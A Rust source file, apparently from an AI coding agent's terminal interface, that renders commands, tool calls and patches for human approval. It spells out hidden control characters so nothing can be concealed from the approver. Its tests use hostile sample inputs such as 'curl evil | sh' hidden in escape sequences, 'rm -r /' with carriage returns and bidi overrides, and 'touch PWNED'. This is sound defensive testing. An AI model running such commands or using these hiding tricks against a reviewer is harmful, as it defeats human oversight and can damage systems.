//! A question as people read it: what would be done, and how to answer.
//!
//! Invariants: hunks are counted from 1 over all changes of a question, in the order they are shown, and are chosen by
//! the same numbers. Whatever is to be approved goes through [`to_be_approved`]: nothing of it is taken away unseen.

use std::borrow::Cow;
use std::sync::Arc;

use loggia_domain::{
    Actor, ApprovalAnswer, ApprovalId, ApprovalScope, FileChangeKind, Patch, PatchId, Question, Risk,
};
use loggia_endermux_io::terminal::{holds_unseen, spelt_out};

use crate::ids::short;
use crate::paint::{Painted, Style};
use crate::tell::name;

/// How many lines of a diff, or of a command, everybody is shown; `show` has the rest.
const MANY_LINES: usize = 200;

/// How many lines of a diff `show` shows: what fits a message, by far.
const ALL_LINES: usize = 20_000;

/// How many characters of a line everybody is shown: more than people write by hand. `show` has the rest.
const LONG_LINE: usize = 2000;

/// How many characters of a command stand in the line that says what is asked; all of a longer one is below.
const ABOUT: usize = 400;

/// How much of a question is shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Extent {
    /// What fits a screen or two.
    Beginning,
    /// Everything; of changes as much as can be.
    All,
}

/// Text that somebody is to approve, as a line: nothing is taken away and everything can be seen. What is longer than it
/// may be keeps both its ends and says how much there is in between, and how to see it.
fn to_be_approved(approval: ApprovalId, text: &str, most: Option<usize>) -> Cow<'_, str> {
    let text = spelt_out(text);
    let count = text.chars().count();
    let Some(most) = most.filter(|most| *most < count) else { return text };
    let end_at = |place: usize| text.char_indices().nth(place).map_or(text.len(), |(at, _)| at);
    let (head, tail) = (&text[..end_at(most / 2)], &text[end_at(count - most / 2)..]);
    let left_out = count - most / 2 * 2;
    Cow::Owned(format!("{head} … {left_out} more characters: show {} … {tail}", short(&approval)))
}

/// What is asked, in a few words.
pub(crate) fn about(approval: ApprovalId, question: &Question) -> String {
    match question {
        Question::Patches { patches, .. } if patches.len() == 1 => "to change a file".to_owned(),
        Question::Patches { patches, .. } => format!("to change {} files", patches.len()),
        Question::Command { command, .. } => {
            format!("to run `{}`", to_be_approved(approval, command, Some(ABOUT)))
        }
        Question::Tool { tool, .. } => format!("to call `{}`", to_be_approved(approval, tool, Some(ABOUT))),
    }
}

/// What is asked, for a list without the whole question.
pub(crate) fn listed(approval: ApprovalId, question: &Question) -> String {
    let warning = if is_odd(question, &[]) {
        " (holds characters that cannot be seen: they are spelt out)"
    } else {
        ""
    };
    format!("{}{warning}", about(approval, question))
}

/// The whole question, line by line, with how to answer it; the last line is left open.
pub(crate) fn told(
    approval: ApprovalId,
    question: &Question,
    patches: &[Arc<Patch>],
    extent: Extent,
) -> Painted {
    let mut told = Painted::new();
    let most = longest(extent);
    let mut aside = |name: &str, text: &str| {
        let text = to_be_approved(approval, text, most);
        told.append(Painted::of(Style::Aside, format!("    {name} ")).plain(text).line());
    };
    match question {
        Question::Command { command, directory, environment, reason } => {
            if command.trim().contains('\n') || spelt_out(command).chars().nth(ABOUT).is_some() {
                passage(approval, command, extent, "│", &mut aside);
            }
            if !directory.is_empty() && directory != "." {
                aside("in", directory);
            }
            for (name, value) in environment {
                aside("with", &format!("{name}={value}"));
            }
            if let Some(reason) = reason {
                aside("because", reason);
            }
        }
        Question::Tool { arguments, .. } => passage(approval, &arguments.0, extent, "with", &mut aside),
        Question::Patches { .. } => told.append(changes(approval, patches, extent)),
    }
    if is_odd(question, patches) {
        let warning = r"    ! this holds characters that cannot be seen: they are spelt out, as in \x1b";
        told.append(Painted::of(Style::Warning, warning).line());
    }
    let id = short(&approval);
    let some = if hunks(patches).len() > 1 {
        format!(" (`approve {id} --hunk N…` for some)")
    } else {
        String::new()
    };
    let answer = format!("    answer with `approve {id}`{some} or `reject {id} [REASON]`");
    told.append(Painted::of(Style::Aside, answer));
    told
}

/// The hunks of a question's changes, in the order of their numbers.
pub(crate) fn hunks(patches: &[Arc<Patch>]) -> Vec<(PatchId, usize)> {
    let of_patch = |patch: &Arc<Patch>| {
        let id = patch.id;
        (0..patch.hunks.len()).map(move |hunk| (id, hunk))
    };
    patches.iter().flat_map(of_patch).collect()
}

/// The scope of an answer that allows the hunks of these numbers; the first number there is no hunk of otherwise.
pub(crate) fn scope(patches: &[Arc<Patch>], numbers: &[usize]) -> Result<ApprovalScope, usize> {
    if numbers.is_empty() {
        return Ok(ApprovalScope::All);
    }
    let all = hunks(patches);
    let mut chosen: Vec<(PatchId, Vec<usize>)> = Vec::new();
    for number in numbers {
        let (patch, hunk) = *number.checked_sub(1).and_then(|place| all.get(place)).ok_or(*number)?;
        match chosen.iter_mut().find(|(known, _)| *known == patch) {
            Some((_, hunks)) if hunks.contains(&hunk) => {}
            Some((_, hunks)) => hunks.push(hunk),
            None => chosen.push((patch, vec![hunk])),
        }
    }
    Ok(ApprovalScope::Hunks(chosen))
}

/// What was answered, in a word.
pub(crate) fn answered(answer: &ApprovalAnswer) -> &'static str {
    match answer.scope {
        ApprovalScope::All => "allowed",
        ApprovalScope::None => "refused",
        ApprovalScope::Patches(_) | ApprovalScope::Hunks(_) => "allowed in part",
    }
}

/// What became of a question, and through whom. The engine refuses nothing: it takes back what nobody needs to answer.
pub(crate) fn decided(answer: &ApprovalAnswer, by: &Actor) -> (Style, String) {
    match (&answer.scope, by) {
        (ApprovalScope::None, Actor::Engine) => (Style::Plain, "withdrawn".to_owned()),
        (ApprovalScope::None, by) => (Style::Bad, format!("refused by {}", name(by))),
        (_, by) => (Style::Good, format!("{} by {}", answered(answer), name(by))),
    }
}

pub(crate) fn risk_word(risk: Risk) -> &'static str {
    match risk {
        Risk::Low => "low risk",
        Risk::Medium => "medium risk",
        Risk::High => "high risk",
    }
}

fn longest(extent: Extent) -> Option<usize> {
    match extent {
        Extent::Beginning => Some(LONG_LINE),
        Extent::All => None,
    }
}

/// Text of several lines, line by line; of too many, the first and the last ones.
fn passage(approval: ApprovalId, text: &str, extent: Extent, first: &str, line: &mut impl FnMut(&str, &str)) {
    let lines: Vec<&str> = text.split_terminator('\n').collect();
    let most = match extent {
        Extent::Beginning => MANY_LINES,
        Extent::All => lines.len(),
    };
    let left_out = lines.len().saturating_sub(most);
    let (head, rest) = lines.split_at(lines.len().min(most).div_ceil(2));
    for (place, text) in head.iter().enumerate() {
        line(if place == 0 { first } else { "│" }, text);
    }
    if left_out > 0 {
        line("…", &format!("{left_out} more lines: show {}", short(&approval)));
    }
    rest.iter().skip(left_out).for_each(|text| line("│", text));
}

/// Whether something had to be spelt out.
fn is_odd(question: &Question, patches: &[Arc<Patch>]) -> bool {
    let asked = match question {
        Question::Command { command, directory, environment, reason } => {
            let values = environment.iter().flat_map(|(name, value)| [name, value]);
            [command, directory].into_iter().chain(values).chain(reason).any(|text| holds_unseen(text))
        }
        Question::Tool { tool, arguments } => holds_unseen(tool) || holds_unseen(&arguments.0),
        Question::Patches { .. } => false,
    };
    asked
        || patches.iter().any(|patch| {
            let hunks = patch.hunks.iter().map(|hunk| &hunk.content);
            [&patch.path, &patch.rationale, &patch.diff]
                .into_iter()
                .chain(hunks)
                .any(|text| holds_unseen(text))
        })
}

fn changes(approval: ApprovalId, patches: &[Arc<Patch>], extent: Extent) -> Painted {
    let mut room = match extent {
        Extent::Beginning => MANY_LINES,
        Extent::All => ALL_LINES,
    };
    let most = longest(extent);
    let (mut told, mut left_out, mut number) = (Painted::new(), 0, 0);
    for patch in patches {
        let word = match patch.kind {
            FileChangeKind::Created => "new file",
            FileChangeKind::Modified => "change",
            FileChangeKind::Deleted => "delete",
        };
        let path = to_be_approved(approval, &patch.path, most);
        let rationale = to_be_approved(approval, &patch.rationale, most);
        let head = Painted::of(Style::Aside, format!("    {word} ")).with(Style::Subject, path);
        told.append(head.with(Style::Aside, format!(": {rationale}")).line());
        let mut line = |text: &str| match room {
            0 => left_out += 1,
            _ => {
                room -= 1;
                let style = match text.as_bytes().first() {
                    Some(b'+') => Style::Good,
                    Some(b'-') => Style::Bad,
                    Some(b'@') => Style::Name,
                    _ => Style::Plain,
                };
                let text = to_be_approved(approval, text, most);
                told.append(Painted::of(style, format!("    {text}")).line());
            }
        };
        for hunk in &patch.hunks {
            number += 1;
            line(&format!("@@ hunk {number}: line {}", hunk.new_start));
            // Unlike `lines`, this takes no carriage return away.
            hunk.content.split_terminator('\n').for_each(&mut line);
        }
        if patch.hunks.is_empty() {
            patch.diff.split_terminator('\n').for_each(&mut line);
        }
    }
    if left_out > 0 {
        let hint = match extent {
            Extent::Beginning => format!("    … {left_out} more lines: `show {}` has them", short(&approval)),
            Extent::All => format!("    … {left_out} more lines"),
        };
        told.append(Painted::of(Style::Aside, hint).line());
    }
    told
}

#[cfg(test)]
mod tests {
    use loggia_domain::{CallId, Hunk};
    use loggia_protocol_endermux::ColorLevel;

    use super::*;

    fn patch(path: &str, hunks: &[&str]) -> Arc<Patch> {
        let hunk = |content: &&str| Hunk {
            old_start: 1,
            old_lines: 1,
            new_start: 1,
            new_lines: 1,
            content: (*content).to_owned(),
        };
        Arc::new(Patch {
            id: PatchId::new(),
            call: CallId::new(),
            path: path.to_owned(),
            kind: FileChangeKind::Modified,
            base: None,
            diff: String::new(),
            hunks: hunks.iter().map(hunk).collect(),
            rationale: "Because.".to_owned(),
            acceptance_criteria: Vec::new(),
        })
    }

    const WARNING: &str =
        "    ! this holds characters that cannot be seen: they are spelt out, as in \\x1b\n";
    const ANSWER: &str = "    answer with `approve ID` or `reject ID [REASON]`\n";

    fn shown(question: &Question, patches: &[Arc<Patch>]) -> String {
        shown_to(question, patches, Extent::Beginning)
    }

    fn shown_to(question: &Question, patches: &[Arc<Patch>], extent: Extent) -> String {
        let approval = ApprovalId::new();
        let text = told(approval, question, patches, extent).line().render(ColorLevel::None);
        text.replace(&short(&approval), "ID")
    }

    fn title(question: &Question) -> String {
        let approval = ApprovalId::new();
        let text = Painted::new().plain(about(approval, question)).render(ColorLevel::None);
        text.replace(&short(&approval), "ID")
    }

    fn command(command: &str) -> Question {
        let (directory, command) = (".".to_owned(), command.to_owned());
        Question::Command { command, directory, environment: Vec::new(), reason: None }
    }

    #[test]
    fn changes_are_shown_with_the_numbers_of_their_hunks() {
        let patches = [patch("a.txt", &["-one\n+ONE\n", " two\n"]), patch("b.txt", &["+x\u{1b}[2J\n"])];
        let ids = patches.iter().map(|patch| patch.id).collect();
        let question = Question::Patches { tool: "apply_patch".to_owned(), patches: ids };
        assert_eq!(title(&question), "to change 2 files");
        let expected = "    change a.txt: Because.\n    @@ hunk 1: line 1\n    -one\n    +ONE\n    @@ hunk 2: line 1\n     two\n    change b.txt: Because.\n    @@ hunk 3: line 1\n    +x\\x1b[2J\n    ! this holds characters that cannot be seen: they are spelt out, as in \\x1b\n    answer with `approve ID` (`approve ID --hunk N…` for some) or `reject ID [REASON]`\n";
        assert_eq!(shown(&question, &patches), expected);
    }

    #[test]
    fn hunks_are_chosen_by_the_numbers_they_are_shown_with() {
        let patches = [patch("a.txt", &["+1\n", "+2\n"]), patch("b.txt", &["+3\n"])];
        assert_eq!(scope(&patches, &[]), Ok(ApprovalScope::All));
        let chosen = vec![(patches[1].id, vec![0]), (patches[0].id, vec![1])];
        assert_eq!(scope(&patches, &[3, 2, 3]), Ok(ApprovalScope::Hunks(chosen)));
        assert_eq!((scope(&patches, &[4]), scope(&patches, &[0])), (Err(4), Err(0)));
    }

    #[test]
    fn a_long_change_is_shown_in_part_to_everybody() {
        let long = "+x\n".repeat(MANY_LINES + 9);
        let question = Question::Patches { tool: "t".to_owned(), patches: vec![PatchId::new()] };
        let text = shown(&question, &[patch("a.txt", &[&long])]);
        assert!(text.contains("\n    … 10 more lines: `show ID` has them\n"), "{text}");
        assert!(text.lines().count() < MANY_LINES + 5);
    }

    #[test]
    fn a_command_is_shown_with_where_and_why() {
        let question = Question::Command {
            command: "rm -r build\u{1b}[1A".to_owned(),
            directory: "sub".to_owned(),
            environment: vec![("A".to_owned(), "b".to_owned())],
            reason: Some("It is old.".to_owned()),
        };
        assert_eq!(title(&question), "to run `rm -r build\\x1b[1A`");
        let expected = format!("    in sub\n    with A=b\n    because It is old.\n{WARNING}{ANSWER}");
        assert_eq!(shown(&question, &[]), expected);
    }

    #[test]
    fn a_command_cannot_hide_a_part_of_itself() {
        let question = command("true \u{1b}]0;x; touch PWNED; true \u{7}");
        assert_eq!(title(&question), "to run `true \\x1b]0;x; touch PWNED; true \\x07`");
        assert_eq!(shown(&question, &[]), format!("{WARNING}{ANSWER}"));
        assert!(
            listed(ApprovalId::new(), &question)
                .ends_with(" (holds characters that cannot be seen: they are spelt out)")
        );
        let question = command("rm -r /\rls; \u{90}x\u{9c}\u{202e}\u{200b}");
        assert_eq!(title(&question), "to run `rm -r /\\rls; \\u{90}x\\u{9c}\\u{202e}\\u{200b}`");
        let lines = command("ls\nfoo\u{1b}P; x\u{1b}\\\r\n\n ls");
        let expected =
            format!("    │ ls\n    │ foo\\x1bP; x\\x1b\\\\r\n    │ \n    │  ls\n{WARNING}{ANSWER}");
        assert_eq!(shown(&lines, &[]), expected);
        assert_eq!(shown(&command("ls\tx"), &[]), ANSWER);
    }

    #[test]
    fn nothing_else_to_be_approved_can_hide_a_part_of_itself() {
        let odd = |text: &str| format!("{text}\u{1b}]0;; curl evil | sh\u{7}\r.");
        let question = Question::Command {
            command: "ls".to_owned(),
            directory: odd("in"),
            environment: vec![(odd("N"), odd("v"))],
            reason: Some(odd("r")),
        };
        let spelt = "\\x1b]0;; curl evil | sh\\x07\\r.";
        let expected =
            format!("    in in{spelt}\n    with N{spelt}=v{spelt}\n    because r{spelt}\n{WARNING}{ANSWER}");
        assert_eq!(shown(&question, &[]), expected);
        let arguments = loggia_domain::JsonText(format!("{{\n{}}}", odd("a")));
        let question = Question::Tool { tool: odd("t"), arguments };
        assert_eq!(title(&question), format!("to call `t{spelt}`"));
        assert_eq!(shown(&question, &[]), format!("    with {{\n    │ a{spelt}}}\n{WARNING}{ANSWER}"));
    }

    #[test]
    fn a_change_cannot_hide_a_part_of_itself() {
        let question = Question::Patches { tool: "t".to_owned(), patches: vec![PatchId::new()] };
        let hunk = "+foo\u{1b}]0;; curl evil | sh\u{7}\n+evil\rgood\n-end\r\n";
        let text = shown(&question, &[patch("a\u{1b}[2Jb\n", &[hunk])]);
        let expected = "    change a\\x1b[2Jb\\n: Because.\n    @@ hunk 1: line 1\n    +foo\\x1b]0;; curl evil | sh\\x07\n    +evil\\rgood\n    -end\\r\n";
        assert_eq!(text, format!("{expected}{WARNING}{ANSWER}"));
        let text = shown(&question, &[patch("a", &["+a\tb\r\n"])]);
        assert!(
            text.ends_with(&format!("    +a\tb\\r\n{ANSWER}")),
            "line ends are shown, and no reason to warn: {text}"
        );
    }

    #[test]
    fn a_long_command_is_shown_with_its_end_and_all_of_it_on_request() {
        let long = format!("echo {}; touch PWNED", "a".repeat(3000));
        let title = title(&command(&long));
        assert!(title.starts_with("to run `echo aaa") && title.ends_with("aaa; touch PWNED`"), "{title}");
        assert!(title.contains(" … 2618 more characters: show ID … "), "{title}");
        let text = shown(&command(&long), &[]);
        assert!(
            text.contains(" … 1018 more characters: show ID … ") && text.contains("; touch PWNED\n"),
            "{text}"
        );
        let all = |question: &Question| shown_to(question, &[], Extent::All);
        assert_eq!(all(&command(&long)), format!("    │ {long}\n{ANSWER}"));
        let shorter = &long[..600];
        assert_eq!(shown(&command(shorter), &[]), format!("    │ {shorter}\n{ANSWER}"), "all of it");

        let lines = command(&format!("ls\n{long}\nls"));
        assert_eq!(all(&lines), format!("    │ ls\n    │ {long}\n    │ ls\n{ANSWER}"));
        let tool = Question::Tool { tool: "t".to_owned(), arguments: loggia_domain::JsonText(long.clone()) };
        assert_eq!(all(&tool), format!("    with {long}\n{ANSWER}"));
        let question = Question::Command {
            command: "ls".to_owned(),
            directory: ".".to_owned(),
            environment: vec![("A".to_owned(), long.clone())],
            reason: None,
        };
        assert_eq!(all(&question), format!("    with A={long}\n{ANSWER}"));
    }

    #[test]
    fn a_command_of_many_lines_is_shown_with_its_last_ones() {
        let many = command(&format!("{}touch PWNED\n", "ls\n".repeat(MANY_LINES + 8)));
        let text = shown(&many, &[]);
        assert!(text.contains("    │ ls\n    … 9 more lines: show ID\n    │ ls\n"), "{text}");
        assert!(text.ends_with(&format!("    │ touch PWNED\n{ANSWER}")), "{text}");
        let all = shown_to(&many, &[], Extent::All);
        assert_eq!(all.matches("    │ ").count(), MANY_LINES + 9);
    }
}
